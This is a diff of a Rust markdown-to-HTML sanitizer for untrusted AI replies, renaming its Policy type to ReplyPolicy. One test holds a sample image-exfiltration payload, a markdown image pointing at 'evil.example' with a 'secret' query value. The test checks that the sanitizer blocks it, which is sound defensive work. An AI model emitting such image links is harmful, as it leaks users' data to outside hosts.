@@ -1,4 +1,4 @@
-//! The reply as safe HTML (ARCHITECTURE §5): CommonMark with tables, strikethrough and task
+//! The reply as safe HTML (docs/architecture.md §5): CommonMark with tables, strikethrough and task
 //! lists through pulldown-cmark, under a policy for untrusted text.
 //!
 //! - Raw HTML, block and inline, is shown as text.
@@ -24,7 +24,7 @@ use pulldown_cmark_escape::{escape_href, escape_html};
 
 /// What a reply may load.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
-pub struct Policy {
+pub struct ReplyPolicy {
     /// URL prefixes images may load from, e.g. `https://cdn.flowyte.com/`. Empty: no image
     /// is ever loaded.
     pub image_prefixes: Vec<String>,
@@ -50,7 +50,7 @@ pub fn safe_link(url: &str) -> bool {
         .any(|scheme| folded.starts_with(scheme))
 }
 
-fn loadable_image(url: &str, policy: &Policy) -> bool {
+fn loadable_image(url: &str, policy: &ReplyPolicy) -> bool {
     let folded = url.trim().to_lowercase();
     (folded.starts_with("https:") || folded.starts_with("http:"))
         && url.chars().all(|c| !c.is_control() && !c.is_whitespace())
@@ -74,7 +74,7 @@ fn label_key(label: &str) -> String {
 }
 
 /// Renders a whole reply.
-pub fn render(markdown: &str, policy: &Policy) -> String {
+pub fn render(markdown: &str, policy: &ReplyPolicy) -> String {
     render_with(markdown, policy, &Defs::new())
 }
 
@@ -94,7 +94,7 @@ impl<'input> BrokenLinkCallback<'input> for EarlierDefs<'_> {
     }
 }
 
-fn render_with(markdown: &str, policy: &Policy, defs: &Defs) -> String {
+fn render_with(markdown: &str, policy: &ReplyPolicy, defs: &Defs) -> String {
     let parser =
         Parser::new_with_broken_link_callback(markdown, options(), Some(EarlierDefs(defs)));
     let mut out = String::with_capacity(markdown.len() * 3 / 2);
@@ -114,7 +114,7 @@ enum Close {
 /// `Event::Html` it lets through is one it wrote itself: the source's raw HTML became text.
 struct Sanitize<'p, I> {
     inner: I,
-    policy: &'p Policy,
+    policy: &'p ReplyPolicy,
     /// For each open link or image: what its end becomes.
     ends: Vec<Close>,
     /// Column alignments of the open table, and the next cell's column.
@@ -124,7 +124,7 @@ struct Sanitize<'p, I> {
 }
 
 impl<'a, 'p, I: Iterator<Item = Event<'a>>> Sanitize<'p, I> {
-    fn new(inner: I, policy: &'p Policy) -> Self {
+    fn new(inner: I, policy: &'p ReplyPolicy) -> Self {
         Self {
             inner,
             policy,
@@ -362,7 +362,7 @@ pub struct Update {
 /// Renders a reply as it streams in.
 #[derive(Debug, Default)]
 pub struct StreamRenderer {
-    policy: Policy,
+    policy: ReplyPolicy,
     text: String,
     /// Where the open tail starts in `text`.
     committed: usize,
@@ -376,7 +376,7 @@ pub struct StreamRenderer {
 }
 
 impl StreamRenderer {
-    pub fn new(policy: Policy) -> Self {
+    pub fn new(policy: ReplyPolicy) -> Self {
         Self {
             policy,
             ..Self::default()
@@ -468,7 +468,7 @@ impl StreamRenderer {
 pub fn render_streamed(
     input: &[u8],
     chunk: usize,
-    policy: &Policy,
+    policy: &ReplyPolicy,
 ) -> Result<String, std::str::Utf8Error> {
     // Reject invalid input up front, as a whole render would.
     std::str::from_utf8(input)?;
@@ -491,7 +491,7 @@ pub fn render_streamed(
 }
 
 /// The whole reply rendered block by block (what [`StreamRenderer::finish`] falls back to).
-fn split_rendered(text: &str, policy: &Policy) -> Vec<String> {
+fn split_rendered(text: &str, policy: &ReplyPolicy) -> Vec<String> {
     let (starts, found) = top_level_blocks(text);
     let defs = defs_of(found);
     let mut ends: Vec<usize> = starts.iter().skip(1).copied().collect();
@@ -632,7 +632,7 @@ mod tests {
     use super::*;
 
     fn html(md: &str) -> String {
-        render(md, &Policy::default())
+        render(md, &ReplyPolicy::default())
     }
 
     #[test]
@@ -664,7 +664,7 @@ mod tests {
             html("![chart](https://evil.example/p.png?d=secret)"),
             "<p><a href=\"https://evil.example/p.png?d=secret\" class=\"image-link\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">chart</a></p>\n"
         );
-        let policy = Policy {
+        let policy = ReplyPolicy {
             image_prefixes: vec!["https://cdn.flowyte.com/".into()],
         };
         assert!(render("![a](https://cdn.flowyte.com/a.png)", &policy).contains("<img src="));
@@ -710,7 +710,7 @@ mod tests {
     #[test]
     fn streaming_finishes_blocks_and_ends_equal_to_the_whole() {
         let md = "# Title\n\nFirst paragraph with **bold**.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nLast.";
-        let mut stream = StreamRenderer::new(Policy::default());
+        let mut stream = StreamRenderer::new(ReplyPolicy::default());
         let mut finished = 0;
         for chunk in md.as_bytes().chunks(7) {
             let update = stream.push(std::str::from_utf8(chunk).unwrap());
